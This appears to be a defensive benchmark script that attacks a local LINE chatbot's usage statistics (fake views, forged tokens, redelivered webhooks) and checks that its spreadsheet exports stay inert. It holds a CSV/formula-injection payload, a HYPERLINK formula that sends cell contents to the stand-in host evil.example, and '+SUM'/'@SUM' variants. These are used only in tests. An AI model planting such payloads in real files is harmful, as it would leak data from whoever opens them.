"""Attack the reach figures of a local app and print the evidence figures before and after.

    PYTHONPATH=. python benchmarks/reach_attacks.py

Builds the app on a fresh SQLite file with a LINE channel configured (replies go nowhere),
lets three staff members use the bot through signed webhooks, then runs the attacks of issue
14 through the app's own HTTP routes and handlers: 1,000 anonymous GETs of an article, admin
previews, a link checker and LINE's preview fetcher, chats in the web and admin simulators, a
forged read-more token, a redelivered event across a month boundary, and formula payloads in
every text column (a question, an article title, a survey comment). It prints the evidence
totals after each step, the channels shown apart, and whether any XLSX/CSV cell is live.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import hmac
import io
import json
import sys
import tempfile
from datetime import datetime
from pathlib import Path
from typing import Any

import time_machine

SECRET = "attack-channel-secret"
KEYS = ("questions", "answered", "distinct_users", "article_views", "feedback_helpful", "feedback_unhelpful",
        "survey_responses", "pushes")
BROWSER = {"User-Agent": "Mozilla/5.0 (iPhone) Line/14.1.0"}
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def main() -> int:
    from bot import create_app
    from bot.core.calendar import BANGKOK
    from bot.core.migrate import upgrade_database
    from bot.core.read_token import read_token_key, sign_read_token
    from bot.core.tables import User
    from bot.reach.export import render
    from bot.reach.queries import collect_report
    from bot.web.extensions import get_config, get_database, get_search
    from bot.web.simulator import simulate_text
    from bot.web.webhook import EventServices
    from kb.store import load_starter_pack
    from kb.tables import Article

    folder = Path(tempfile.mkdtemp(prefix="kmbot-attacks-"))
    app = create_app({
        "database_url": f"sqlite:///{folder / 'kmbot.db'}", "line_channel_secret": SECRET,
        "line_channel_access_token": "token", "line_api_base_url": "http://127.0.0.1:9",
        "line_max_attempts": 1, "line_backoff_seconds": 0.0, "secret_key": "attack-secret", "staff_count": 10,
        "public_base_url": "https://km.example",
    })
    database = get_database(app)
    upgrade_database(database)
    with database.session() as session:
        load_starter_pack(session)
        article_id = session.query(Article.id).filter(Article.status == "published").order_by(Article.id).first()[0]
    client = app.test_client()
    counter = iter(range(10**6))

    def event(text: str, user: str, at: datetime, event_id: str | None = None, redelivery: bool = False) -> dict[str, Any]:
        return {"type": "message", "mode": "active", "timestamp": int(at.timestamp() * 1000),
                "source": {"type": "user", "userId": user},
                "webhookEventId": event_id or f"01ATTACK{next(counter):018d}",
                "deliveryContext": {"isRedelivery": redelivery}, "replyToken": "r" * 32,
                "message": {"id": str(next(counter)), "type": "text", "text": text, "quoteToken": "q"}}

    def send(*events: dict[str, Any]) -> None:
        body = json.dumps({"destination": "U" + "0" * 32, "events": list(events)}).encode()
        signature = base64.b64encode(hmac.new(SECRET.encode(), body, hashlib.sha256).digest()).decode()
        response = client.post("/callback", data=body, headers={"X-Line-Signature": signature,
                                                                   "Content-Type": "application/json"})
        assert response.status_code == 200, response.data

    def figures(month: str | None = None) -> tuple[dict[str, int], Any]:
        with database.session() as session:
            report = collect_report(session, 2567, month, staff_count=10)
        return {key: report.totals.as_dict()[key] for key in KEYS}, report

    def show(step: str, baseline: dict[str, int] | None = None) -> dict[str, int]:
        totals, _report = figures()
        mark = "" if baseline is None else ("  (unchanged)" if totals == baseline else "  (CHANGED)")
        print(f"{step:<46} " + " ".join(f"{key}={value}" for key, value in totals.items()) + mark)
        return totals

    people = ["U" + letter * 32 for letter in "abc"]
    moment = datetime(2024, 3, 20, 10, 0, tzinfo=BANGKOK)
    with time_machine.travel(moment, tick=False):
        for person in people:
            send(event("ความรู้ฝังลึกคืออะไร", person, moment))
        with database.session() as session:
            reader = session.query(User.id).filter(User.line_user_id == people[0]).scalar()
        token = sign_read_token(read_token_key(get_config(app)), reader, article_id)
        client.get(f"/kb/{article_id}?from=line&t={token}", headers=BROWSER)
        print("evidence figures, FY 2567 (LINE channels only)")
        baseline = show("staff use the bot (3 questions, 1 signed read)")
        for _ in range(1000):
            client.get(f"/kb/{article_id}", headers=BROWSER)
        show("1,000 anonymous GETs of /kb/<id>", baseline)
        for _ in range(5):
            client.get(f"/kb/{article_id}?from=line&t={token}", headers=BROWSER)
        show("the same signed link opened 5 more times", baseline)
        client.get(f"/kb/{article_id}?from=line&t={token[:-4]}AAAA", headers=BROWSER)
        client.get(f"/kb/{article_id + 1}?from=line&t={token}", headers=BROWSER)
        show("a forged token, a token for another article", baseline)
        for _ in range(34):
            client.get(f"/kb/{article_id}?from=preview", headers=BROWSER)
        show("34 admin previews (ดูหน้าเว็บ)", baseline)
        for agent in ("W3C-checklink/5.0 libwww-perl/6", "facebookexternalhit/1.1;line-poker/1.0", "curl/8.5"):
            for _ in range(10):
                client.get(f"/kb/{article_id}", headers={"User-Agent": agent})
        client.head(f"/kb/{article_id}", headers=BROWSER)
        show("30 robot GETs (link checker, LINE preview, curl)", baseline)
        with app.app_context():
            services = EventServices(database, get_config(), None, get_search(), "https://km.example/")
            for kind in ("web", "admin"):
                for number in range(4):
                    simulate_text("ลาพักผ่อนได้กี่วัน", f"web-{kind}-{number}", services, kind)
                    simulate_text("/survey 5", f"web-{kind}-{number}", services, kind)
            simulate_text(FORMULA, "web-admin-formula", services, "admin")
            simulate_text("+SUM(1,2) เบิกค่าเดินทาง", "web-admin-formula", services, "admin")
        show("16 simulator chats (web and admin), surveys", baseline)

    # A redelivered event: it happened at 23:59 on 31 March, LINE delivered it again after midnight.
    happened = datetime(2024, 3, 31, 23, 59, 30, tzinfo=BANGKOK)
    march_before, _ = figures("2567-03")
    april_before, _ = figures("2567-04")
    late = event("ความรู้ฝังลึกคืออะไร", people[1], happened, event_id="01ATTACKREDELIVERED0000000")
    with time_machine.travel(datetime(2024, 4, 1, 0, 5, tzinfo=BANGKOK), tick=False):
        send({**late, "deliveryContext": {"isRedelivery": True}})
        send({**late, "deliveryContext": {"isRedelivery": True}})  # the same webhookEventId again
    march_after, _ = figures("2567-03")
    april_after, _ = figures("2567-04")
    print(f"{'redelivered event (31 Mar 23:59, received 1 Apr)':<46} questions 2567-03: "
          f"{march_before['questions']} -> {march_after['questions']}, 2567-04: "
          f"{april_before['questions']} -> {april_after['questions']}")

    with database.session() as session:
        session.get(Article, article_id).title = "@SUM(A1) " + session.get(Article, article_id).title
    _totals, report = figures()
    print("\nshown apart (not evidence):")
    for channel in report.by_channel:
        data = channel.as_dict()
        print(f"  {channel.channel:<8} evidence={'yes' if channel.evidence else 'no ':<3} questions={data['questions']:<4} "
              f"article_views={data['article_views']:<5} survey_answers={data['survey_answers']:<3} people={data['distinct_users']}")

    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(render(report, "xlsx")))
    formulas = [f"{sheet.title}!{cell.coordinate}" for sheet in workbook.worksheets for row in sheet.iter_rows()
                for cell in row if cell.data_type == "f"]
    risky = [cell for sheet in workbook.worksheets for row in sheet.iter_rows(values_only=True)
             for cell in row if isinstance(cell, str) and cell[:1] in "=+-@"]
    rows = list(csv.reader(io.StringIO(render(report, "csv").decode("utf-8-sig"))))
    live_csv = [cell for row in rows for cell in row if cell and cell != "-" and cell[0] in "=+-@\t\r"]
    print(f"\nXLSX: {len(risky)} text cells begin with = + - @, {len(formulas)} are formula cells; "
          f"CSV: {len(live_csv)} cells could start a formula")
    return 1 if formulas or live_csv else 0


if __name__ == "__main__":
    sys.exit(main())
